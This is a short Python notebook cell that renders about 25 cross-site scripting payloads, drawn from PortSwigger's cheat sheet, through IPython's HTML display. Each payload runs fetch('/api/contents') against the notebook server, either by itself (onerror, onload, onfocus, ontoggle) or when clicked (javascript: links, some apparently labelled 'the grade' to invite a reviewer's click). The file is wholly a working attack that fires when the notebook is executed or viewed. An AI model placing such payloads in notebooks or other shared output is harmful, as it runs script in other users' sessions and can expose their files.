"""Shows HTML whose elements act by themselves, or when touched, without any script element."""

SOURCE = "PortSwigger, cross-site scripting cheat sheet"
SUCCESS = "a handler or an address that is a script in the executed notebook"

# %%
from IPython.display import HTML, display

CODE = "fetch('/api/contents')"
for text in (
    f"<img src=x onerror={CODE}>", f"<img/src=x/OnErRoR\n=\n\"{CODE}\">", f"<body onload={CODE}>", f"<details open ontoggle={CODE}>x</details>",
    f"<input autofocus onfocus={CODE}>", f"<div style='animation:x' onanimationstart={CODE}>", f"<video><source onerror={CODE}></video>",
    f"<a href=javascript:{CODE}>the grade</a>", f"<a href='java\tscript:{CODE}'>the grade</a>", f"<a href='&#106;avascript&colon;{CODE}'>x</a>",
    f"<form action=javascript:{CODE}><button>x</button></form>", f"<button formaction=javascript:{CODE}>x</button>", f"<a href=' &#1; javascript:{CODE}'>x</a>",
    f"<math href=javascript:{CODE}>x</math>", f"<table background=javascript:{CODE}>", f"<p style=\"x:expression({CODE})\">", f"<a href='data:text/html,<script>{CODE}</script>'>x</a>",
    f"<img src='\" onerror={CODE} x=\"'>", f"<img title='</p><img src=x onerror={CODE}>'>", f"<marquee onstart={CODE}>", f"<area href=vbscript:{CODE}>",
    f"<p id='x' tabindex=1 onclick={CODE}>x</p>", f"<select onpointerenter={CODE}>", f"<isindex type=image src=1 onerror={CODE}>", f"<dialog open onclose={CODE}>",
):  # fmt: skip
    display(HTML(text))
print("attempted")
